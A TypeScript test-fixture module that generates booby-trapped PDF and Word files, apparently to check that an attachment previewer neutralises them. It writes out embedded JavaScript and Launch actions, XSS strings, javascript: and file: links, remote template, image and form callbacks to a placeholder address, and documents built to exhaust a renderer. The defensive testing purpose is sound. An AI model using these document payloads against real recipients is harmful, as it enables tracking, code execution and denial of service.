/** Files that try to act, to load or to take for ever, each a valid file of its kind. `alvo` is an address that nobody may ask. */
import { writeZip } from '../../supabase/functions/_shared/sample/anexos'

const latin = (text: string) => new Uint8Array(Buffer.from(text, 'latin1'))

/** A PDF of these objects, the first its catalog, with the table that readers look for. */
function writePdf(objects: string[]) {
  let text = '%PDF-1.7\n'
  const table = objects.map((body, at) => {
    const offset = text.length
    text += `${at + 1} 0 obj\n${body}\nendobj\n`
    return `${String(offset).padStart(10, '0')} 00000 n \n`
  })
  const size = objects.length + 1
  const start = text.length
  return latin(
    `${text}xref\n0 ${size}\n0000000000 65535 f \n${table.join('')}trailer\n<< /Size ${size} /Root 1 0 R >>\nstartxref\n${start}\n%%EOF\n`,
  )
}
const stream = (content: string, more = '') => `<< /Length ${content.length} ${more} >>\nstream\n${content}\nendstream`
const FONT = '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>'
const page = (more = '') =>
  `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /Font << /F 5 0 R >> >> ${more} >>`
const TEXT = stream('BT /F 18 Tf 72 700 Td (Nara Ficticia, padeira) Tj ET')
const PAGES = '<< /Type /Pages /Kids [3 0 R] /Count 1 >>'

/** One page with a line of text. */
export const writeHonest = () => Buffer.from(writePdf(['<< /Type /Catalog /Pages 2 0 R >>', PAGES, page(), TEXT, FONT]))

const writeActing = (alvo: string) =>
  writePdf([
    `<< /Type /Catalog /Pages 2 0 R /OpenAction << /S /JavaScript /JS (app.alert\\("oi"\\); app.launchURL\\("${alvo}js"\\)) >>
      /AA << /WC << /S /JavaScript /JS (app.alert\\(2\\)) >> >> /AcroForm << /Fields [6 0 R] /XFA (x) >>
      /Names << /JavaScript << /Names [(a) << /S /JavaScript /JS (app.alert\\(3\\)) >>] >> >> >>`,
    PAGES,
    page(`/AA << /O << /S /URI /URI (${alvo}aa) >> /C << /S /Launch /F (calc.exe) >> >> /Annots [6 0 R 7 0 R 8 0 R]`),
    TEXT,
    FONT,
    `<< /Type /Annot /Subtype /Widget /FT /Tx /T (campo) /V (x) /Rect [0 0 100 30] /P 3 0 R
      /AA << /Fo << /S /SubmitForm /F << /FS /URL /F (${alvo}form) >> >> /K << /S /JavaScript /JS (app.alert\\(4\\)) >> >> >>`,
    `<< /Type /Annot /Subtype /Screen /Rect [0 0 10 10] /A << /S /Rendition /R << /S /MR /C << /S /MCD /D << /FS /URL /F (${alvo}video) >> >> >> >> >>`,
    '<< /Type /Annot /Subtype /Link /Rect [70 690 300 720] /A << /S /URI /URI (javascript:alert\\(5\\)) >> >>',
  ])

const REL = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const rel = (id: string, type: string, target: string, mode = ' TargetMode="External"') =>
  `<Relationship Id="${id}" Type="${REL}/${type}" Target="${target}"${mode}/>`

const writeWord = (body: string, rels = '', more: { name: string; content: string }[] = []) =>
  new Uint8Array(
    writeZip([
      {
        name: '[Content_Types].xml',
        content:
          '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ' +
          'ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>' +
          '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>',
      },
      {
        name: '_rels/.rels',
        content: `<?xml version="1.0"?>
          <Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rel('r1', 'officeDocument', 'word/document.xml', '')}</Relationships>`,
      },
      {
        name: 'word/_rels/document.xml.rels',
        content: `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${rels}</Relationships>`,
      },
      {
        name: 'word/document.xml',
        content:
          `<?xml version="1.0"?><w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="${REL}" ` +
          'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" ' +
          `xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"><w:body>${body}</w:body></w:document>`,
      },
      ...more,
    ]),
  )
const run = (text: string) => `<w:r><w:t>${text}</w:t></w:r>`

const writeActingWord = (alvo: string) =>
  writeWord(
    `<w:p>${run('Nara Fictícia, padeira')}${run('&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(2)&gt;')}</w:p>
    <w:p><w:hyperlink r:id="h1">${run('Minha página')}</w:hyperlink></w:p>
    <w:p><w:hyperlink r:id="h2">${run('Arquivo do disco')}</w:hyperlink></w:p>
    <w:p><w:r><w:drawing><wp:inline><a:graphic><a:graphicData>
      <pic:pic><pic:blipFill><a:blip r:link="i1"/></pic:blipFill></pic:pic>
    </a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>
    <w:p><w:r><w:instrText>INCLUDEPICTURE "${alvo}campo"</w:instrText></w:r></w:p><w:altChunk r:id="c1"/>`,
    rel('h1', 'hyperlink', 'javascript:alert(3)') +
      rel('h2', 'hyperlink', 'file:///C:/x.exe') +
      rel('i1', 'image', `${alvo}imagem.png`) +
      rel('t1', 'attachedTemplate', `${alvo}modelo.dotm`) +
      rel('c1', 'aFChunk', 'pedaco.html', ''),
    [
      { name: 'word/pedaco.html', content: `<script>alert(4)</script><img src="${alvo}pedaco">` },
      { name: 'word/vbaProject.bin', content: 'x' },
    ],
  )

/** A picture that draws another ten times, which draws another ten times…: a few lines that no machine comes to the end of. */
const writeEndless = () => {
  const levels = 12
  const draw = '/X Do '.repeat(10)
  const forms = Array.from({ length: levels }, (_, at) => {
    const last = at + 1 === levels
    const resources = last ? '' : `/Resources << /XObject << /X ${6 + at} 0 R >> >>`
    return stream(last ? '0 0 m 595 842 l S' : draw, `/Type /XObject /Subtype /Form /BBox [0 0 595 842] ${resources}`)
  })
  return writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    PAGES,
    '<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Contents 4 0 R /Resources << /XObject << /X 5 0 R >> >> >>',
    stream(draw),
    ...forms,
  ])
}

/** By name: files that act, of which the page shows the text. */
export const writeActingFiles = (alvo: string) => ({ 'age.pdf': writeActing(alvo), 'age.docx': writeActingWord(alvo) })

/** By name: files that are not shown, on a fast machine as on a slow one. */
export const writeTooLong = () => ({
  '301 paginas.pdf': writePdf([
    '<< /Type /Catalog /Pages 2 0 R >>',
    `<< /Type /Pages /Count 301 /Kids [${'3 0 R '.repeat(301)}] >>`,
    page(),
    TEXT,
    FONT,
  ]),
  'demora.pdf': writeEndless(),
  'demora.docx': writeWord('<w:p><w:r><w:t>a</w:t></w:r></w:p>'.repeat(400_000)),
})
